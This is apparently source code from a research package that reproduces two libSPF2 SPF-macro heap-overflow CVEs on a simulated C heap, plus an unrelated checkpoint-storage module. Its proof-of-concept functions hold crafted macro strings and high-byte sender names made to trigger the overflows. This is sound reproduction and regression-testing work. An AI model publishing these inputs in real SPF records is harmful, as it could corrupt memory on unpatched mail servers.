"""A behavioral Python port of libSPF2's vulnerable macro expansion.

The paper's two CVEs live in libSPF2's ``spf_expand`` code path:

- **CVE-2021-33912** — URL-encoding ``sprintf`` overflow: encoding a byte
  in ``0x80``-``0xFF`` through ``sprintf(p, "%%%02x", *p_read)`` widens the
  negative ``signed char`` to a 32-bit value, emitting 10 bytes where the
  code sized for 4.
- **CVE-2021-33913** — buffer-length reassignment: when a macro specifies
  label *reversal*, the intended buffer length is overwritten with a much
  smaller value; with URL encoding also specified, the undersized buffer
  overflows by up to ~100 attacker-controlled bytes.

This package reproduces both at the byte level over a simulated C heap
(:mod:`repro.libspf2.cmem`) with overflow detection, and reproduces the
*observable* side effect SPFail fingerprints: the reversal bug corrupts the
expansion output itself, duplicating the leading label and skipping
truncation, so a ``%{d1r}`` macro over ``example.com`` expands to
``com.com.example`` instead of ``example``.

It is a behavioral port: logic and bugs are reproduced from the paper's
description, not line-by-line from the C sources.
"""

from .cmem import CHeap, CBuffer
from .csprintf import sprintf_url_encode_byte, c_hex_of_char
from .expand import LibSpf2Expander, ExpansionOutcome
from .poc import (
    PocReport,
    trigger_cve_2021_33912,
    trigger_cve_2021_33913,
    fingerprint_for,
)

__all__ = [
    "CHeap",
    "CBuffer",
    "sprintf_url_encode_byte",
    "c_hex_of_char",
    "LibSpf2Expander",
    "ExpansionOutcome",
    "PocReport",
    "trigger_cve_2021_33912",
    "trigger_cve_2021_33913",
    "fingerprint_for",
]
