"""A behavioral port of libSPF2's ``spf_expand`` with both CVEs.

The port follows the shape of the C code: a *length-computation* pass that
sizes a heap buffer, then a *write* pass that fills it.  Three deviations
from correct behavior are reproduced, each switchable off via
``patched=True``:

1. **Reversed emission bug** (observable fingerprint): when a macro
   carries the ``r`` transformer, the emission loop starts one split too
   early through a clamped index and never applies the digit
   (truncation) transformer.  ``%{d1r}`` over ``example.com`` therefore
   emits ``com.com.example`` — the unique pattern SPFail detects in DNS
   queries.

2. **CVE-2021-33913** (buffer-length reassignment): on the reversal path
   the variable holding the intended buffer length is overwritten with the
   length of a single split.  The URL-encoding branch allocates its buffer
   *after* that reassignment, so reversal + URL encoding yields an
   undersized buffer and a heap overflow of attacker-controlled bytes.

3. **CVE-2021-33912** (``sprintf`` widening): URL encoding sizes each
   encoded byte at 3 characters (``%XX``) but emits 9 for bytes
   ``0x80``-``0xFF`` on signed-char platforms (see
   :mod:`repro.libspf2.csprintf`), overflowing by 6 bytes per high byte.

Macro *syntax* handling is self-contained here (no dependency on the
RFC-compliant engine in :mod:`repro.spf.macro`) because the port must
stand alone, exactly as libSPF2 does not share code with other SPF
implementations.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, List, Optional, Tuple

from ..errors import MacroError, MemoryCorruptionError
from ..obs import context as _obs
from .cmem import CBuffer, CHeap
from .csprintf import sprintf_url_encode_byte

_DELIMITERS = ".-+,/_="
_MACRO_LETTERS = "slodiphcrtv"
_UNRESERVED = set(
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~"
)
#: The same set as byte values, for membership tests on encoded output.
_UNRESERVED_BYTES = frozenset(ord(c) for c in _UNRESERVED)

#: Resolves a macro letter (lowercase) to its value, e.g. 'd' -> domain.
ValueFn = Callable[[str], str]


@dataclass
class ExpansionOutcome:
    """What one expansion did: its output and its memory-safety effects."""

    output: str
    corrupted: bool = False
    crashed: bool = False
    overflow_byte_count: int = 0
    crash_reason: Optional[str] = None

    @property
    def memory_safe(self) -> bool:
        return not (self.corrupted or self.crashed)


@dataclass(frozen=True)
class _Macro:
    letter: str
    keep: Optional[int]
    reverse: bool
    delimiters: str

    @property
    def url_escape(self) -> bool:
        return self.letter.isupper()


def _parse_macro(body: str) -> _Macro:
    if not body or body[0].lower() not in _MACRO_LETTERS:
        raise MacroError(f"bad macro body {body!r}")
    letter, rest = body[0], body[1:]
    digits = ""
    i = 0
    while i < len(rest) and rest[i].isdigit():
        digits += rest[i]
        i += 1
    reverse = i < len(rest) and rest[i] in "rR"
    if reverse:
        i += 1
    delims = rest[i:]
    for ch in delims:
        if ch not in _DELIMITERS:
            raise MacroError(f"bad delimiter {ch!r} in macro {body!r}")
    return _Macro(
        letter=letter,
        keep=int(digits) if digits else None,
        reverse=reverse,
        delimiters=delims or ".",
    )


def _split(value: str, delimiters: str) -> List[str]:
    if len(delimiters) == 1:
        # str.split matches the scan below exactly for one delimiter
        # (empty segments included) — and "." is the overwhelming case.
        return value.split(delimiters)
    parts: List[str] = []
    current = ""
    for ch in value:
        if ch in delimiters:
            parts.append(current)
            current = ""
        else:
            current += ch
    parts.append(current)
    return parts


#: Token streams per macro string.  Tokens are immutable (literal text
#: and frozen ``_Macro`` records), so sharing across expansions is safe;
#: the same handful of policy templates repeats across an entire
#: campaign.  Cleared wholesale at the cap.  Errors are not cached.
_TOKEN_CACHE: Dict[str, List[Tuple[str, object]]] = {}
_TOKEN_CACHE_CAP = 4096


def _tokenize(macro_string: str) -> List[Tuple[str, object]]:
    """Break a macro-string into ('lit', text) and ('macro', _Macro) tokens.

    Literal runs are coalesced into one token per stretch between macros;
    the emitted byte stream is identical to the per-character form (each
    literal character contributes one byte, ``ord(ch) & 0xFF``).
    """
    cached = _TOKEN_CACHE.get(macro_string)
    if cached is not None:
        return cached
    tokens: List[Tuple[str, object]] = []
    lits: List[str] = []
    n = len(macro_string)
    i = 0
    while i < n:
        j = macro_string.find("%", i)
        if j < 0:
            lits.append(macro_string[i:])
            break
        if j > i:
            lits.append(macro_string[i:j])
        if j + 1 >= n:
            raise MacroError("trailing '%'")
        nxt = macro_string[j + 1]
        if nxt == "%":
            lits.append("%")
            i = j + 2
        elif nxt == "_":
            lits.append(" ")
            i = j + 2
        elif nxt == "-":
            lits.append("%20")
            i = j + 2
        elif nxt == "{":
            end = macro_string.find("}", j + 2)
            if end < 0:
                raise MacroError(f"unterminated macro in {macro_string!r}")
            if lits:
                tokens.append(("lit", "".join(lits)))
                lits = []
            tokens.append(("macro", _parse_macro(macro_string[j + 2 : end])))
            i = end + 1
        else:
            raise MacroError(f"invalid escape '%{nxt}'")
    if lits:
        tokens.append(("lit", "".join(lits)))
    if len(_TOKEN_CACHE) >= _TOKEN_CACHE_CAP:
        _TOKEN_CACHE.clear()
    _TOKEN_CACHE[macro_string] = tokens
    return tokens


def _lit_bytes(text: str) -> bytes:
    """A literal run as bytes: one per character, ``ord(ch) & 0xFF``."""
    try:
        return text.encode("latin-1")
    except UnicodeEncodeError:
        return bytes(ord(ch) & 0xFF for ch in text)


class LibSpf2Expander:
    """The ported expansion routine.

    ``patched=False`` reproduces the vulnerable library exactly as the
    paper fingerprints it; ``patched=True`` is the post-CVE behavior
    (correct reversal/truncation, ``snprintf``-style bounded encoding).

    ``heap_slack`` models allocator rounding: overruns that stay within
    the slack corrupt silently (``corrupted=True``); anything beyond
    raises internally and is reported as a crash (``crashed=True``), at
    which point the expansion output is whatever made it into the buffer.
    """

    def __init__(
        self,
        *,
        patched: bool = False,
        char_is_signed: bool = True,
        heap_slack: int = 8,
    ) -> None:
        self.patched = patched
        self.char_is_signed = char_is_signed
        self.heap_slack = heap_slack

    # -- the two passes ----------------------------------------------------

    def _expanded_parts(self, macro: _Macro, value: str) -> List[str]:
        """The split sequence the write pass will emit for one macro."""
        splits = _split(value, macro.delimiters)
        if self.patched or not macro.reverse:
            parts = list(splits)
            if macro.reverse:
                parts.reverse()
            if macro.keep is not None and macro.keep > 0:
                parts = parts[-macro.keep:]
            return parts
        # Vulnerable reversed emission: the loop index starts at nsplit
        # (one past the end) and is clamped back onto the final split, so
        # the final split is emitted twice; `keep` is never consulted.
        nsplit = len(splits)
        parts = []
        i = nsplit  # BUG: should be nsplit - 1
        while i >= 0:
            idx = i if i < nsplit else nsplit - 1  # clamped re-read
            parts.append(splits[idx])
            i -= 1
        return parts

    def expand(self, macro_string: str, value_of: ValueFn) -> ExpansionOutcome:
        """Expand ``macro_string``, reporting output and memory effects."""
        heap = CHeap(slack=self.heap_slack)
        tokens = _tokenize(macro_string)

        # ---- pass 1: length computation (mirrors the C code's sizing) ----
        # The length pass runs the same split/emit loop as the write pass
        # (so a wrong-but-consistent reversed emission stays memory-safe on
        # its own), but sizes every URL-escaped byte at 3 characters
        # ('%XX'), which is where CVE-2021-33912 gets its 6 extra bytes.
        buflen = 0
        reversal_reassigned_len: Optional[int] = None
        any_url = False
        for kind, tok in tokens:
            if kind == "lit":
                buflen += len(tok)  # type: ignore[arg-type]
                continue
            macro = tok  # type: ignore[assignment]
            value = value_of(macro.letter.lower())
            emitted = ".".join(self._expanded_parts(macro, value))
            if macro.url_escape:
                any_url = True
                buflen += sum(
                    1 if b in _UNRESERVED_BYTES else 3 for b in emitted.encode("utf-8")
                )
            else:
                buflen += len(emitted.encode("utf-8"))
            if macro.reverse and not self.patched:
                # CVE-2021-33913: the running length variable is clobbered
                # with the length of a single split.
                splits = _split(value, macro.delimiters)
                reversal_reassigned_len = len(splits[-1]) + 1

        alloc_len = buflen + 1
        if (
            not self.patched
            and any_url
            and reversal_reassigned_len is not None
        ):
            # The URL-encoding branch allocates from the (clobbered)
            # length field instead of the computed total.
            alloc_len = reversal_reassigned_len * 3 + 1

        buf = heap.malloc(alloc_len)

        # ---- pass 2: write ------------------------------------------------
        pos = 0
        corrupted = False
        crashed = False
        crash_reason: Optional[str] = None
        try:
            for kind, tok in tokens:
                if kind == "lit":
                    pos += buf.write_bytes(pos, _lit_bytes(tok))  # type: ignore[arg-type]
                    continue
                macro = tok  # type: ignore[assignment]
                value = value_of(macro.letter.lower())
                emitted = ".".join(self._expanded_parts(macro, value))
                if macro.url_escape:
                    for byte in emitted.encode("utf-8"):
                        if byte in _UNRESERVED_BYTES:
                            buf.write_byte(pos, byte)
                            pos += 1
                        elif self.patched:
                            # snprintf-style bounded, unsigned-char encode.
                            for ch in f"%{byte:02X}":
                                buf.write_byte(pos, ord(ch))
                                pos += 1
                        else:
                            pos += sprintf_url_encode_byte(
                                buf, pos, byte, char_is_signed=self.char_is_signed
                            )
                else:
                    pos += buf.write_bytes(pos, emitted.encode("utf-8"))
            buf.write_byte(pos, 0)
        except MemoryCorruptionError as exc:
            crashed = True
            crash_reason = str(exc)

        corrupted = heap.corrupted
        output = buf.cstring().decode("utf-8", errors="replace")
        outcome = ExpansionOutcome(
            output=output,
            corrupted=corrupted,
            crashed=crashed,
            overflow_byte_count=len(buf.overflow_bytes()),
            crash_reason=crash_reason,
        )
        if _obs.ACTIVE is not None:
            self._observe(macro_string, tokens, outcome)
        return outcome

    def _observe(
        self, macro_string: str, tokens: List[Tuple[str, object]], outcome: ExpansionOutcome
    ) -> None:
        obs = _obs.ACTIVE
        if obs is None:
            return
        obs.metrics.counter("libspf2.expansions").inc(
            "patched" if self.patched else "vulnerable"
        )
        if outcome.corrupted:
            obs.metrics.counter("libspf2.corrupted").inc()
        if outcome.crashed:
            obs.metrics.counter("libspf2.crashed").inc()
        if outcome.overflow_byte_count:
            obs.metrics.histogram("libspf2.overflow_bytes").observe(
                float(outcome.overflow_byte_count)
            )
        if not obs.tracer.enabled:
            return
        any_reverse = any(
            kind == "macro" and tok.reverse  # type: ignore[union-attr]
            for kind, tok in tokens
        )
        if not self.patched and any_reverse:
            # The reversed-emission fingerprint (e.g. com.com.example) —
            # the DNS-observable signal SPFail keys on.
            obs.tracer.event(
                "libspf2.misexpansion",
                macro=macro_string,
                output=outcome.output,
            )
        if outcome.corrupted or outcome.crashed:
            obs.tracer.event(
                "libspf2.overflow",
                macro=macro_string,
                output=outcome.output,
                overflow_bytes=outcome.overflow_byte_count,
                corrupted=outcome.corrupted,
                crashed=outcome.crashed,
                reason=outcome.crash_reason,
            )
