"""Proof-of-concept triggers for the two libSPF2 CVEs.

These functions run the ported expansion the way a mail server running
vulnerable libSPF2 would when processing an attacker-published SPF record,
and report the memory-safety outcome.  They are the reproduction's
equivalent of the crash PoCs referenced in the paper's disclosure, and
they double as regression tests for the patched code path.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Optional

from .expand import ExpansionOutcome, LibSpf2Expander


@dataclass
class PocReport:
    """The result of running one PoC against one library build."""

    cve: str
    macro_string: str
    sender: str
    outcome: ExpansionOutcome
    patched: bool

    @property
    def triggered(self) -> bool:
        """True if the PoC corrupted memory."""
        return not self.outcome.memory_safe

    def summary(self) -> str:
        state = "patched" if self.patched else "vulnerable"
        verdict = (
            "heap overflow"
            + (" + crash" if self.outcome.crashed else " (silent corruption)")
            if self.triggered
            else "memory safe"
        )
        return f"{self.cve} vs {state} libSPF2: {verdict}"


def _values_for(sender: str, domain: str) -> Dict[str, str]:
    local, _, sender_domain = sender.partition("@")
    return {
        "s": sender,
        "l": local,
        "o": sender_domain,
        "d": domain,
        "i": "192.0.2.66",
        "h": "attacker.example",
        "p": "unknown",
        "v": "in-addr",
        "c": "192.0.2.66",
        "r": "victim.example",
        "t": "0",
    }


def trigger_cve_2021_33912(*, patched: bool = False) -> PocReport:
    """URL-encoding ``sprintf`` overflow.

    The attacker controls the MAIL FROM local part, puts bytes in
    ``0x80``-``0xFF`` in it, and publishes an SPF record whose macro
    URL-encodes that local part (uppercase ``%{L}``).  Each high byte
    makes the vulnerable ``sprintf`` emit 6 more bytes than were sized.
    """
    sender = "caféüß@attacker.example"  # local part with high bytes
    macro_string = "%{L}._spf.attacker.example"
    expander = LibSpf2Expander(patched=patched)
    values = _values_for(sender, "victim-policy.example")
    outcome = expander.expand(macro_string, lambda letter: values[letter])
    return PocReport(
        cve="CVE-2021-33912",
        macro_string=macro_string,
        sender=sender,
        outcome=outcome,
        patched=patched,
    )


def trigger_cve_2021_33913(*, patched: bool = False) -> PocReport:
    """Buffer-length reassignment overflow.

    A macro that specifies both label reversal and URL encoding makes the
    vulnerable code allocate from a clobbered length field, so the write
    pass runs up to ~100 attacker-controlled bytes past the allocation.
    """
    sender = (
        "user@" + ".".join(f"label{i:02d}" for i in range(12)) + ".attacker.example"
    )
    macro_string = "%{O9R}.exfil.attacker.example"
    expander = LibSpf2Expander(patched=patched)
    values = _values_for(sender, sender.partition("@")[2])
    outcome = expander.expand(macro_string, lambda letter: values[letter])
    return PocReport(
        cve="CVE-2021-33913",
        macro_string=macro_string,
        sender=sender,
        outcome=outcome,
        patched=patched,
    )


def fingerprint_for(domain: str, *, patched: bool = False) -> str:
    """The ``%{d1r}`` expansion a libSPF2 build produces for ``domain``.

    This is the paper's Section 4.2 example in function form:

    >>> fingerprint_for("example.com")
    'com.com.example'
    >>> fingerprint_for("example.com", patched=True)
    'example'
    """
    expander = LibSpf2Expander(patched=patched)
    outcome = expander.expand("%{d1r}", lambda letter: domain)
    return outcome.output
