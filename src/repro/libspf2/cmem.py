"""A simulated C heap with out-of-bounds write detection.

The vulnerable code in :mod:`repro.libspf2.expand` writes through
:class:`CBuffer` objects obtained from :class:`CHeap`.  Every write is
bounds-checked against the allocation size; an overrun raises
:class:`~repro.errors.MemoryCorruptionError` carrying how far past the end
the write landed — the reproduction's equivalent of heap corruption or an
AddressSanitizer report.

A configurable ``slack`` models allocator rounding: real heap overflows of
a few bytes often land in allocator padding without crashing, which is why
the paper's vulnerability 1 needs several high bytes (6 extra bytes each)
to do damage.  With the default ``slack=0`` every overrun is reported.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from ..errors import MemoryCorruptionError, SimulationError


class CBuffer:
    """One heap allocation: ``size`` writable bytes plus a guard zone."""

    def __init__(self, heap: "CHeap", block_id: int, size: int) -> None:
        self._heap = heap
        self.block_id = block_id
        self.size = size
        # Guard bytes past the end record what an overflow wrote.
        self._data = bytearray(size + heap.guard_size)
        self.high_water = 0
        self.freed = False
        self.overflowed = False

    def _check_alive(self) -> None:
        if self.freed:
            raise MemoryCorruptionError(
                f"use-after-free on block {self.block_id}", block_id=self.block_id
            )

    def write_byte(self, offset: int, value: int) -> None:
        """Write one byte, enforcing bounds (with allocator slack)."""
        self._check_alive()
        if offset < 0:
            raise MemoryCorruptionError(
                f"underflow write at offset {offset} on block {self.block_id}",
                block_id=self.block_id,
                offset=offset,
            )
        if offset >= self.size + self._heap.guard_size:
            raise MemoryCorruptionError(
                f"wild write at offset {offset} (size {self.size}) on block {self.block_id}",
                block_id=self.block_id,
                offset=offset,
            )
        self._data[offset] = value & 0xFF
        self.high_water = max(self.high_water, offset + 1)
        if offset >= self.size:
            self.overflowed = True
            self._heap.overflow_events.append((self.block_id, offset))
            if offset >= self.size + self._heap.slack:
                raise MemoryCorruptionError(
                    f"heap overflow: wrote offset {offset} in {self.size}-byte "
                    f"block {self.block_id} (slack {self._heap.slack})",
                    block_id=self.block_id,
                    offset=offset,
                )

    def write_bytes(self, offset: int, data: bytes) -> int:
        """Write ``data`` starting at ``offset``; returns bytes written.

        The fully in-bounds case is one slice assignment; any write that
        starts before 0 or could touch the guard region falls back to the
        byte loop so underflow/overflow accounting (including one
        ``overflow_events`` entry per overflowing byte) stays identical.
        """
        end = offset + len(data)
        if data and offset >= 0 and end <= self.size:
            self._check_alive()
            self._data[offset:end] = data
            if end > self.high_water:
                self.high_water = end
            return len(data)
        for i, byte in enumerate(data):
            self.write_byte(offset + i, byte)
        return len(data)

    def read_byte(self, offset: int) -> int:
        self._check_alive()
        if not 0 <= offset < self.size + self._heap.guard_size:
            raise MemoryCorruptionError(
                f"out-of-bounds read at offset {offset} on block {self.block_id}",
                block_id=self.block_id,
                offset=offset,
            )
        return self._data[offset]

    def cstring(self) -> bytes:
        """The buffer contents up to the first NUL (like reading a char*)."""
        self._check_alive()
        end = self._data.find(b"\x00")
        if end < 0:
            end = len(self._data)
        return bytes(self._data[:end])

    def overflow_bytes(self) -> bytes:
        """Whatever was written past the allocation end (guard contents)."""
        return bytes(self._data[self.size : self.high_water])


class CHeap:
    """Allocation arena with overflow bookkeeping.

    ``slack`` — bytes past the end of each block tolerated before the heap
    "corrupts" (models allocator rounding).  ``guard_size`` — how much
    guard space is recorded for forensics; writes past it are wild.
    """

    def __init__(self, *, slack: int = 0, guard_size: int = 256) -> None:
        if guard_size < slack:
            raise SimulationError("guard_size must cover the slack region")
        self.slack = slack
        self.guard_size = guard_size
        self._blocks: Dict[int, CBuffer] = {}
        self._next_id = 1
        self.overflow_events: List[tuple] = []
        self.total_allocated = 0

    def malloc(self, size: int) -> CBuffer:
        if size < 0:
            raise SimulationError(f"malloc of negative size {size}")
        buf = CBuffer(self, self._next_id, size)
        self._blocks[self._next_id] = buf
        self._next_id += 1
        self.total_allocated += size
        return buf

    def free(self, buf: CBuffer) -> None:
        if buf.freed:
            raise MemoryCorruptionError(
                f"double free of block {buf.block_id}", block_id=buf.block_id
            )
        buf.freed = True
        del self._blocks[buf.block_id]

    @property
    def live_blocks(self) -> int:
        return len(self._blocks)

    @property
    def corrupted(self) -> bool:
        """True if any write landed past an allocation's end."""
        return bool(self.overflow_events)
