"""C ``sprintf`` semantics for the vulnerable URL-encoding call.

The vulnerable line in libSPF2 is::

    sprintf(p_write, "%%%02x", *p_read);

``*p_read`` is a plain ``char``.  On the common platforms where ``char``
is signed, a byte in ``0x80``-``0xFF`` is a *negative* value; C's default
argument promotion widens it to a negative ``int``, and ``%x`` then
reinterprets that as a 32-bit unsigned value.  ``%02x`` sets a *minimum*
field width of two — it never truncates — so ``0xFE`` prints as
``fffffffe``: 8 hex digits where the author expected 2.

The code's author sized the output at 4 bytes ("we know we're going to
get 4 characters anyway"); for high bytes the real output is '%' + 8 hex
digits + NUL = 10 bytes, a 6-byte overflow per character.
"""

from __future__ import annotations

from .cmem import CBuffer


def c_hex_of_char(byte: int, *, char_is_signed: bool = True) -> str:
    """What ``%02x`` prints for ``char`` value ``byte`` (0-255).

    >>> c_hex_of_char(0x0F)
    '0f'
    >>> c_hex_of_char(0xFE)
    'fffffffe'
    >>> c_hex_of_char(0xFE, char_is_signed=False)
    'fe'
    """
    if not 0 <= byte <= 0xFF:
        raise ValueError(f"not a char value: {byte}")
    promoted = byte
    if char_is_signed and byte >= 0x80:
        # signed char -> int (negative) -> unsigned int reinterpretation.
        promoted = byte - 0x100 + 0x100000000
    return format(promoted, "02x")


def sprintf_url_encode_byte(
    buf: CBuffer, offset: int, byte: int, *, char_is_signed: bool = True
) -> int:
    """Emulate ``sprintf(p_write, "%%%02x", *p_read)`` into ``buf``.

    Writes ``%`` + hex digits + NUL at ``offset`` and returns the number of
    non-NUL characters produced (2 hex digits normally, 8 for a high byte
    on signed-char platforms).  Bounds enforcement — and therefore the
    CVE-2021-33912 overflow — happens inside :class:`CBuffer`.
    """
    text = "%" + c_hex_of_char(byte, char_is_signed=char_is_signed)
    encoded = text.encode("ascii")
    buf.write_bytes(offset, encoded)
    buf.write_byte(offset + len(encoded), 0)  # terminating NUL
    return len(encoded)
