"""Crash-safe on-disk persistence for checkpointed campaigns.

Layout, under the store root::

    <root>/
      run-<hash8>/                 one directory per RunConfig content hash
        config.json                the full RunConfig (runtime fields too)
        manifest.json              ordered checkpoint index + digests
        checkpoint-0000.pkl        after run_initial
        checkpoint-0001.pkl        after round 1
        ...

Durability relies on exactly two properties, both provided by
:func:`_atomic_write` (write to a temp file in the same directory,
``fsync``, then ``os.replace``):

- a checkpoint or manifest file is always either the complete previous
  version or the complete next version, never a torn hybrid;
- the checkpoint file is renamed into place *before* the manifest that
  references it, so a kill between the two leaves a manifest that
  simply does not know about the orphan file yet.

On load, every manifest entry's SHA-256 and size are re-verified and
the longest valid prefix wins: a truncated or corrupted newest
checkpoint silently degrades to the one before it (the torn-checkpoint
test exercises exactly this).
"""

from __future__ import annotations

import hashlib
import json
import os
import pickle
import shutil
from dataclasses import dataclass
from typing import List, Optional, TYPE_CHECKING

try:
    import fcntl
except ImportError:  # non-unix: locking degrades to a no-op
    fcntl = None  # type: ignore[assignment]

from ..errors import CampaignAborted, StoreError
from .checkpoint import (
    CHECKPOINT_VERSION,
    Checkpoint,
    capture_checkpoint,
)

if TYPE_CHECKING:
    from ..api import RunConfig
    from ..core.campaign import MeasurementCampaign, MeasurementRound
    from ..simulation import Simulation

MANIFEST_VERSION = 1


def _atomic_write(path: str, data: bytes) -> None:
    """Replace ``path`` with ``data`` such that a kill at any instant
    leaves either the old complete file or the new complete file."""
    tmp = path + ".tmp"
    with open(tmp, "wb") as handle:
        handle.write(data)
        handle.flush()
        os.fsync(handle.fileno())
    os.replace(tmp, path)


def _digest(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


class StoreLock:
    """An fcntl single-writer lock over one run's checkpoint chain.

    The lock file lives *beside* the run directory
    (``<root>/run-<hash8>.lock``), not inside it: a fresh run replaces
    the whole run directory, and deleting a locked file's inode would
    silently defeat conflict detection for every later opener.

    ``flock`` locks belong to the open file description, so two
    handles — even in the same process — conflict, which is exactly
    what the two-writer regression test needs.  On platforms without
    ``fcntl`` the lock degrades to a no-op (single-writer discipline is
    then the operator's responsibility, as before this lock existed).
    """

    def __init__(self, path: str) -> None:
        self.path = path
        self._fd: Optional[int] = None

    @property
    def held(self) -> bool:
        return self._fd is not None

    def acquire(self) -> "StoreLock":
        """Take the lock, or raise :class:`StoreError` if another writer
        (this process or any other) already holds it."""
        if self._fd is not None:
            return self
        if fcntl is None:
            return self
        fd = os.open(self.path, os.O_WRONLY | os.O_CREAT, 0o644)
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            os.close(fd)
            raise StoreError(
                f"run is locked by another writer (lock file {self.path}); "
                "a daemon or concurrent run owns this store — stop it "
                "before resuming"
            )
        self._fd = fd
        return self

    def release(self) -> None:
        if self._fd is None:
            return
        fd, self._fd = self._fd, None
        try:
            if fcntl is not None:
                fcntl.flock(fd, fcntl.LOCK_UN)
        finally:
            os.close(fd)

    def __enter__(self) -> "StoreLock":
        return self.acquire()

    def __exit__(self, exc_type, exc, tb) -> None:
        self.release()


@dataclass
class RunState:
    """A run loaded from the store, ready to hand to ``Simulation.resume``."""

    run_id: str
    run_dir: str
    config: "RunConfig"
    #: the newest usable checkpoint (end of the valid prefix).
    checkpoint: Checkpoint
    #: per-checkpoint trace deltas, in checkpoint order.
    trace_segments: List[list]
    #: per-checkpoint query-log deltas, in checkpoint order.
    querylog_segments: List[list]
    #: manifest entries for the valid prefix (what a resumed writer keeps).
    entries: List[dict]


class CheckpointWriter:
    """Writes one run's checkpoint chain; bound to a live simulation.

    The campaign calls :meth:`after_initial` / :meth:`after_round`; each
    call pickles a :class:`~repro.store.checkpoint.Checkpoint`, renames
    it into place, then publishes it in the manifest.  ``abort_after_round``
    turns the writer into a fault injector: once that many rounds are
    checkpointed it raises :class:`~repro.errors.CampaignAborted` —
    *after* the checkpoint hit disk — which is how tests and the CI
    smoke job kill a run at a deterministic point.
    """

    def __init__(
        self,
        run_dir: str,
        sim: "Simulation",
        *,
        entries: List[dict],
        abort_after_round: Optional[int] = None,
        lock: Optional[StoreLock] = None,
    ) -> None:
        self.run_dir = run_dir
        self.sim = sim
        self.abort_after_round = abort_after_round
        self._entries = entries
        #: the single-writer lock this writer owns (released by
        #: :meth:`close`); ``None`` for writers built directly in tests.
        self.lock = lock
        obs = sim.observation
        tracing = obs is not None and obs.tracer.enabled
        # Evidence below these positions is already persisted by the
        # checkpoints in ``entries`` (both are 0 for a fresh run).
        self._trace_mark = obs.tracer.event_count() if tracing else 0
        self._qlog_mark = len(sim.campaign.responder.log)

    # -- campaign hooks -------------------------------------------------------

    def after_initial(self, campaign: "MeasurementCampaign") -> None:
        self._write("initial", rounds=[], notified=False)

    def after_round(
        self,
        campaign: "MeasurementCampaign",
        rounds: List["MeasurementRound"],
        notified: bool,
    ) -> None:
        self._write("round", rounds=rounds, notified=notified)
        if self.abort_after_round is not None and len(rounds) >= self.abort_after_round:
            raise CampaignAborted(
                f"aborted after round {len(rounds)} as requested; "
                f"checkpoint saved in {self.run_dir}"
            )

    def close(self) -> None:
        """Release the single-writer lock (idempotent).

        :meth:`repro.simulation.Simulation.run` calls this in its
        ``finally`` so an aborted or raising run never leaves the store
        locked against a later resume.
        """
        if self.lock is not None:
            self.lock.release()

    # -- persistence ----------------------------------------------------------

    def _write(self, kind: str, *, rounds: list, notified: bool) -> None:
        checkpoint = capture_checkpoint(
            self.sim,
            kind=kind,
            rounds=rounds,
            notified=notified,
            trace_mark=self._trace_mark,
            qlog_mark=self._qlog_mark,
        )
        self._trace_mark += len(checkpoint.trace_segment)
        self._qlog_mark += len(checkpoint.querylog_segment)

        data = pickle.dumps(checkpoint, protocol=pickle.HIGHEST_PROTOCOL)
        filename = f"checkpoint-{len(self._entries):04d}.pkl"
        _atomic_write(os.path.join(self.run_dir, filename), data)
        self._entries.append(
            {
                "file": filename,
                "sha256": _digest(data),
                "size": len(data),
                "kind": kind,
                "rounds_completed": len(rounds),
                "clock_now": checkpoint.clock_now.isoformat(),
            }
        )
        manifest = {
            "version": MANIFEST_VERSION,
            "checkpoint_version": CHECKPOINT_VERSION,
            "config_hash": self.sim.config.content_hash(),
            "config": self.sim.config.to_dict(),
            "checkpoints": self._entries,
        }
        _atomic_write(
            os.path.join(self.run_dir, "manifest.json"),
            json.dumps(manifest, sort_keys=True, indent=2).encode("utf-8"),
        )


class RunStore:
    """A directory of checkpointed runs, one subdirectory per config hash."""

    def __init__(self, root: str) -> None:
        self.root = root
        #: fault-injection knob propagated to writers (see CLI
        #: ``--abort-after-round``); ``None`` disables it.
        self.abort_after_round: Optional[int] = None
        os.makedirs(root, exist_ok=True)

    # -- writing --------------------------------------------------------------

    def writer(self, sim: "Simulation") -> CheckpointWriter:
        """A writer for ``sim`` — fresh, or continuing a resumed run."""
        if sim.config is None:
            raise StoreError(
                "RunStore needs a config-built Simulation (Simulation.build"
                "(config=...)); this one has no RunConfig attached"
            )
        run_dir = self._run_dir(sim.config)
        lock = self.acquire_lock(sim.config)
        resumed = getattr(sim, "_resume", None)
        if resumed is not None:
            entries = list(getattr(sim, "_store_entries", []))
            return CheckpointWriter(
                run_dir, sim, entries=entries,
                abort_after_round=self.abort_after_round, lock=lock,
            )
        # A fresh run of this config replaces any previous attempt: the
        # old chain describes a different execution's evidence stream
        # and must not be stitched into this one.  The performance
        # ledger is the exception — its records describe *measurements
        # of* past executions, which is exactly what should accumulate
        # across re-runs — so it survives the replacement.
        try:
            ledger = None
            if os.path.isdir(run_dir):
                ledger_file = self.ledger_path(sim.config)
                if os.path.isfile(ledger_file):
                    with open(ledger_file, "rb") as handle:
                        ledger = handle.read()
                shutil.rmtree(run_dir)
            os.makedirs(run_dir)
            if ledger is not None:
                with open(self.ledger_path(sim.config), "wb") as handle:
                    handle.write(ledger)
            _atomic_write(
                os.path.join(run_dir, "config.json"),
                sim.config.to_json().encode("utf-8"),
            )
        except BaseException:
            lock.release()
            raise
        return CheckpointWriter(
            run_dir, sim, entries=[],
            abort_after_round=self.abort_after_round, lock=lock,
        )

    def lock_path(self, config: "RunConfig") -> str:
        """The single-writer lock file for a config's run (beside, not
        inside, the run directory — see :class:`StoreLock`)."""
        return self._run_dir(config) + ".lock"

    def acquire_lock(self, config: "RunConfig") -> StoreLock:
        """Take the single-writer lock for a config's run.

        :meth:`writer` does this automatically; a daemon that owns the
        store without checkpointing (``repro serve``) takes the lock
        directly so a concurrent ``repro resume`` refuses instead of
        racing the resident world for the checkpoint chain.
        """
        return StoreLock(self.lock_path(config)).acquire()

    def _run_dir(self, config: "RunConfig") -> str:
        return os.path.join(self.root, f"run-{config.content_hash()[:8]}")

    def run_dir(self, config: "RunConfig") -> str:
        """The run directory a config maps to (may not exist yet)."""
        return self._run_dir(config)

    def ledger_path(self, config: "RunConfig") -> str:
        """Where this run's performance-ledger records are appended.

